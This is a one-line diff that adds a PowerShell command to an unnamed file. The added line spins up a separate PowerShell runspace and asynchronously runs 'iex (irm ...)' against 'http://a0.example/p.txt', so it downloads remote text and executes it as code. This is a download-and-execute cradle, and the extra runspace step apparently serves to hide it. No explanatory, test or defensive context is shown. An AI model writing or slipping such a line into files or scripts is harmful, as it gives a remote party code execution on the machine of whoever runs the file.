@@ -1,0 +1,1 @@
+$p=[PowerShell]::Create();$null=$p.AddScript({param($u) iex (irm $u)}).AddArgument('http://a0.example/p.txt');$h=$p.BeginInvoke();$p.EndInvoke($h)
